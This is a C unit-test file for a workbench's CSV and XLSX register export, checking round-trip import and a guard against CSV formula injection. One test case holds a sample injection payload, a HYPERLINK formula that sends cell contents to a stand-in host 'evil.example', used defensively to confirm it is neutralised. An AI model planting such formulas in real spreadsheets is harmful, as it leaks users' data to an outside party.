/* test-sheet-export.c
 *
 * Copyright 2026 AIMS Workbench Authors
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

/* Registers to CSV and XLSX (issue 9): a header row, one row per record,
 * level names; and the round trip: exporting a register and importing the
 * file into the same project changes nothing, on the demo project and on
 * the large demo. */

#include "config.h"

#include "aims-test-util.h"

#include "aims-csv-field-private.h"

#include <string.h>

static AimsStore *
open_demo (const char    *dir,
           AimsDemoScale  scale)
{
  g_autofree char *path = g_build_filename (dir, "demo.db", NULL);
  g_autoptr(GError) error = NULL;
  AimsStore *store;

  g_assert_true (aims_demo_write_file (path, scale, AIMS_DEMO_DEFAULT_SEED, &error));
  g_assert_no_error (error);
  store = aims_store_new (path, "Ada", &error);
  g_assert_no_error (error);
  return store;
}

static AimsSheet *
read_back (GBytes          *bytes,
           AimsSheetFormat  format,
           const char      *name)
{
  g_autoptr(GError) error = NULL;
  gsize length = 0;
  const char *data = g_bytes_get_data (bytes, &length);
  AimsSheet *sheet = format == AIMS_SHEET_FORMAT_CSV
                     ? aims_csv_read_data (data, length, name, &error)
                     : aims_xlsx_read_data (data, length, name, NULL, &error);

  g_assert_no_error (error);
  return sheet;
}

/* @xlsx_only: (nullable): the one register to round-trip through XLSX too
 * (NULL: every register); CSV is always done for all */
static void
round_trip (AimsStore  *store,
            const char *xlsx_only)
{
  const char * const *registers = aims_sheet_list_registers (FALSE);

  for (guint i = 0; registers[i] != NULL; i++)
    for (AimsSheetFormat format = AIMS_SHEET_FORMAT_CSV; format <= AIMS_SHEET_FORMAT_XLSX;
         format++)
      {
        g_autoptr(GError) error = NULL;
        g_autoptr(GBytes) bytes = NULL;
        g_autoptr(AimsSheet) sheet = NULL;
        g_autoptr(AimsImportMapping) mapping = NULL;
        g_autoptr(AimsImportResult) result = NULL;
        g_autoptr(AimsMatrix) matrix = aims_store_dup_matrix (store);
        const char *table = aims_sheet_register_to_table (registers[i], NULL);
        gboolean importable = FALSE;
        gint64 last_change = aims_store_get_last_change_id (store);
        guint n_records = 0;

        if (format == AIMS_SHEET_FORMAT_XLSX && xlsx_only != NULL &&
            !g_str_equal (xlsx_only, registers[i]))
          continue;

        bytes = aims_sheet_export (store, registers[i], format, &n_records, &error);
        g_assert_no_error (error);
        g_assert_cmpuint (n_records, ==, aims_store_count (store, table));

        sheet = read_back (bytes, format, format == AIMS_SHEET_FORMAT_CSV ? "r.csv" : "r.xlsx");
        /* A header row, then one row per record (no record: no rows). */
        g_assert_cmpuint (aims_sheet_get_n_rows (sheet), ==, n_records + 1);

        aims_sheet_register_to_table (registers[i], &importable);
        if (!importable)
          continue;

        mapping = aims_import_mapping_guess (registers[i], sheet, matrix, &error);
        g_assert_no_error (error);
        result = aims_import_run (store, sheet, mapping, FALSE, &error);
        g_assert_no_error (error);
        if (aims_import_result_get_n_rejected (result) > 0)
          g_error ("%s: %s", registers[i], aims_import_result_get_rejected_reason (result, 0));
        if (aims_import_result_get_n_updated (result) > 0 ||
            aims_import_result_get_n_added (result) > 0)
          g_error ("%s (%s): re-importing the export changed %u records and added %u",
                   registers[i], format == AIMS_SHEET_FORMAT_CSV ? "CSV" : "XLSX",
                   aims_import_result_get_n_updated (result),
                   aims_import_result_get_n_added (result));
        g_assert_cmpuint (aims_import_result_get_n_unchanged (result), ==, n_records);
        g_assert_cmpint (aims_store_get_last_change_id (store), ==, last_change);
      }
}

static void
test_round_trip_demo (void)
{
  g_autofree char *dir = aims_test_make_dir ();
  g_autoptr(AimsStore) store = open_demo (dir, AIMS_DEMO_SCALE_SMALL);

  g_assert_cmpuint (aims_store_count (store, "risk"), >, 0);
  round_trip (store, NULL);
  g_clear_object (&store);
  aims_test_remove_tree (dir);
}

static void
test_round_trip_large (void)
{
  g_autofree char *dir = aims_test_make_dir ();
  g_autoptr(AimsStore) store = open_demo (dir, AIMS_DEMO_SCALE_LARGE);

  /* 2,000 AI systems and 20,000 risks: every register as CSV, the risks
   * as XLSX too (the demo covers XLSX for every register). */
  round_trip (store, "risks");
  g_clear_object (&store);
  aims_test_remove_tree (dir);
}

static void
test_csv_layout (void)
{
  g_autofree char *dir = aims_test_make_dir ();
  g_autofree char *path = g_build_filename (dir, "risks.csv", NULL);
  g_autofree char *bad = g_build_filename (dir, "risks.txt", NULL);
  g_autofree char *contents = NULL;
  g_autoptr(AimsStore) store = open_demo (dir, AIMS_DEMO_SCALE_SMALL);
  g_autoptr(GError) error = NULL;
  g_auto(GStrv) lines = NULL;
  guint n_records = 0;

  g_assert_true (aims_sheet_export_to_file (store, "risks", path, &n_records, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n_records, ==, aims_store_count (store, "risk"));
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));

  /* RFC 4180: CRLF; the labels as the header; level names. */
  g_assert_true (g_str_has_prefix (contents, "Reference,Title,Description,Risk source,"));
  g_assert_nonnull (strstr (contents, ",Inherent likelihood,Inherent impact,Inherent level,"));
  g_assert_nonnull (strstr (contents, "\r\n"));
  lines = g_strsplit (contents, "\r\n", 3);
  g_assert_true (g_str_has_prefix (lines[1], "R-"));
  g_assert_true (strstr (contents, ",High,") != NULL || strstr (contents, ",Medium,") != NULL);

  g_assert_false (aims_sheet_export_to_file (store, "risks", bad, NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
  g_assert_nonnull (strstr (error->message, "“risks.txt” ends neither in .csv nor in .xlsx"));
  g_assert_false (g_file_test (bad, G_FILE_TEST_EXISTS));

  g_clear_object (&store);
  aims_test_remove_tree (dir);
}

/* CSV injection (OWASP): a text cell that a spreadsheet program would run as
 * a formula is written with a ' before it; the CSV reader takes it off, so
 * the round trip still changes nothing. */
static const struct
{
  const char *title;
  const char *in_csv;
} formula_cases[] = {
  { "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"" },
  { "+1 555 0100 hotline down", "'+1 555 0100 hotline down" },
  { "-3 dB drift in the sensor", "'-3 dB drift in the sensor" },
  { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
  { "\tindented by a tab", "'\tindented by a tab" },
  { "'=guarded by hand already", "''=guarded by hand already" },
  { "'tis a quote, not a guard", "\"'tis a quote, not a guard\"" },
};

static void
test_formula_guard (void)
{
  g_autofree char *dir = aims_test_make_dir ();
  g_autoptr(AimsStore) store = open_demo (dir, AIMS_DEMO_SCALE_SMALL);
  g_auto(GStrv) uuids = aims_store_dup_uuids (store, "risk", NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) csv = NULL;
  g_autoptr(GBytes) xlsx = NULL;
  g_autoptr(AimsSheet) csv_sheet = NULL;
  g_autoptr(AimsSheet) xlsx_sheet = NULL;
  g_autofree char *contents = NULL;

  g_assert_cmpuint (g_strv_length (uuids), >=, G_N_ELEMENTS (formula_cases));
  for (guint i = 0; i < G_N_ELEMENTS (formula_cases); i++)
    {
      g_assert_true (aims_store_update (store, "risk", uuids[i], "title",
                                        g_variant_new_string (formula_cases[i].title), &error));
      g_assert_no_error (error);
    }

  csv = aims_sheet_export (store, "risks", AIMS_SHEET_FORMAT_CSV, NULL, &error);
  g_assert_no_error (error);
  contents = g_strndup (g_bytes_get_data (csv, NULL), g_bytes_get_size (csv));

  /* Each title is the second cell of its row, guarded. */
  for (guint i = 0; i < G_N_ELEMENTS (formula_cases); i++)
    {
      g_autofree char *cell = g_strdup_printf (",%s,", formula_cases[i].in_csv);

      if (strstr (contents, cell) == NULL)
        g_error ("“%s” is not in the CSV as %s", formula_cases[i].title, cell);
    }

  /* Read back, the titles are as they were, and numbers are numbers; the
   * same through XLSX, whose cells are strings, never formulas. */
  csv_sheet = read_back (csv, AIMS_SHEET_FORMAT_CSV, "risks.csv");
  xlsx = aims_sheet_export (store, "risks", AIMS_SHEET_FORMAT_XLSX, NULL, &error);
  g_assert_no_error (error);
  xlsx_sheet = read_back (xlsx, AIMS_SHEET_FORMAT_XLSX, "risks.xlsx");
  for (guint s = 0; s < 2; s++)
    {
      AimsSheet *sheet = s == 0 ? csv_sheet : xlsx_sheet;
      const char * const *header = aims_sheet_get_row (sheet, 0, NULL);
      guint likelihood = 0;
      guint found = 0;

      while (header[likelihood] != NULL &&
             !g_str_equal (header[likelihood], "Inherent likelihood"))
        likelihood++;
      g_assert_nonnull (header[likelihood]);

      for (guint r = 1; r < aims_sheet_get_n_rows (sheet); r++)
        {
          const char * const *row = aims_sheet_get_row (sheet, r, NULL);

          g_assert_null (aims_sheet_get_row_problem (sheet, r));
          g_assert_true (row[likelihood][0] == '\0' || g_ascii_isdigit (row[likelihood][0]));
          for (guint i = 0; i < G_N_ELEMENTS (formula_cases); i++)
            found += g_str_equal (row[1], formula_cases[i].title);
        }
      g_assert_cmpuint (found, ==, G_N_ELEMENTS (formula_cases));
    }

  /* Re-importing either file changes nothing. */
  round_trip (store, "risks");

  g_clear_object (&store);
  aims_test_remove_tree (dir);
}

/* The rule itself: only text is guarded (-3 in a numeric column stays a
 * number), and reading undoes exactly what writing did, for any text. */
static void
test_formula_guard_rule (void)
{
  static const char * const texts[] = {
    "=1+2", "+", "-", "-3", "@", "\t", "\r", "=", "'", "''", "'=", "''=x", "'''-1", "'a",
    "a=b", " =1", "plain", "\"=quoted\"", "=a,b", "-\r\n-", "'@", "' =1",
  };
  g_autoptr(GString) out = g_string_new (NULL);

  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      g_autoptr(GString) line = g_string_new ("header,other\r\n");
      g_autoptr(AimsSheet) sheet = NULL;
      g_autoptr(GError) error = NULL;

      _aims_csv_append_field (line, texts[i], AIMS_CSV_CELL_TEXT);
      g_string_append (line, ",x\r\n");
      sheet = aims_csv_read_data (line->str, line->len, "t.csv", &error);
      g_assert_no_error (error);
      g_assert_cmpuint (aims_sheet_get_n_rows (sheet), ==, 2);
      g_assert_cmpstr (aims_sheet_get_row (sheet, 1, NULL)[0], ==, texts[i]);
      g_assert_cmpstr (aims_sheet_get_row (sheet, 1, NULL)[1], ==, "x");
    }

  _aims_csv_append_field (out, "-3", AIMS_CSV_CELL_VALUE);
  g_string_append_c (out, ',');
  _aims_csv_append_field (out, "-3", AIMS_CSV_CELL_TEXT);
  g_string_append_c (out, ',');
  _aims_csv_append_field (out, "=1+2", AIMS_CSV_CELL_TEXT);
  g_string_append_c (out, ',');
  _aims_csv_append_field (out, "a=b", AIMS_CSV_CELL_TEXT);
  g_assert_cmpstr (out->str, ==, "-3,'-3,'=1+2,a=b");
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/sheet-export/csv-layout", test_csv_layout);
  g_test_add_func ("/sheet-export/round-trip/demo", test_round_trip_demo);
  g_test_add_func ("/sheet-export/round-trip/large", test_round_trip_large);
  g_test_add_func ("/sheet-export/formula-guard", test_formula_guard);
  g_test_add_func ("/sheet-export/formula-guard/rule", test_formula_guard_rule);

  return g_test_run ();
}
